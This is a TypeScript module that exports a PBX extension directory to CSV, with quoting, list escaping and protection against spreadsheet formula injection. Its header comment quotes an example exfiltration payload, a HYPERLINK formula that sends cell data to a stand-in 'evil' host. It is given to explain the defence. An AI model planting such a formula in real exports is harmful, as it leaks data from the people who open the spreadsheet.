// The directory as CSV (RFC 4180: CRLF line ends, fields quoted when they hold a comma, quote or
// line break, quotes doubled), UTF-8 with a byte-order mark so spreadsheet programs read accents,
// CJK and Arabic correctly. Lists (queues, devices) sit in one cell each, joined by "; " with
// "\;" and "\\" escaped, so the file re-parses to the same directory.
//
// Formula injection (CSV injection): a spreadsheet runs a cell that starts with =, +, -, @, a tab
// or a carriage return as a formula, so a PBX user could name an extension
// =HYPERLINK("http://evil/?leak="&B3) and leak the sheet when an agent opens the export. As
// OWASP recommends, such cells get a leading single quote (shown as text, not run). A cell that
// already starts with quotes before such a character gets one more, so the parser can take
// exactly one off and every value re-parses unchanged.
import type { Extension } from '../shared/domain.js';
import { type DirectoryRow, toRow } from './rows.js';

export const CSV_COLUMNS = [
  'extension',
  'name',
  'email',
  'language',
  'internal_cid',
  'external_cid',
  'emergency_cid',
  'queues',
  'queue_penalties',
  'device_names',
  'device_technologies',
  'device_users',
  'device_descriptions',
  'device_ring',
] as const;

const BOM = '\uFEFF';

const FORMULA_START = /^[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;

/** Prefixes a single quote to a cell a spreadsheet would evaluate (see the header). */
export function neutralizeFormula(cell: string): string {
  return FORMULA_START.test(cell) || GUARDED.test(cell) ? `'${cell}` : cell;
}

/** Undoes neutralizeFormula (exactly one quote, and only where it added one). */
export function restoreFormula(cell: string): string {
  return GUARDED.test(cell) ? cell.slice(1) : cell;
}

export function quote(field: string): string {
  return /[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field;
}

export function joinList(values: readonly string[]): string {
  return values.map((v) => v.replace(/\\/g, '\\\\').replace(/;/g, '\\;')).join('; ');
}

export function splitList(cell: string): string[] {
  if (cell === '') return [];
  const out: string[] = [];
  let cur = '';
  for (let i = 0; i < cell.length; i++) {
    const c = cell[i];
    if (c === '\\' && i + 1 < cell.length) cur += cell[++i];
    else if (c === ';') {
      out.push(cur);
      cur = '';
      if (cell[i + 1] === ' ') i++;
    } else cur += c;
  }
  out.push(cur);
  return out;
}

function rowCells(r: DirectoryRow): string[] {
  return [
    r.number,
    r.name,
    r.email,
    r.language,
    r.internalCid,
    r.externalCid,
    r.emergencyCid,
    joinList(r.queues.map((q) => q.name)),
    joinList(r.queues.map((q) => String(q.penalty))),
    joinList(r.devices.map((d) => d.name)),
    joinList(r.devices.map((d) => d.technology)),
    joinList(r.devices.map((d) => d.user)),
    joinList(r.devices.map((d) => d.description)),
    joinList(r.devices.map((d) => (d.ring ? 'yes' : 'no'))),
  ];
}

export function toCsv(extensions: readonly Extension[]): string {
  const lines = [CSV_COLUMNS.join(',')];
  for (const ext of extensions)
    lines.push(
      rowCells(toRow(ext))
        .map((c) => quote(neutralizeFormula(c)))
        .join(','),
    );
  return `${BOM}${lines.join('\r\n')}\r\n`;
}
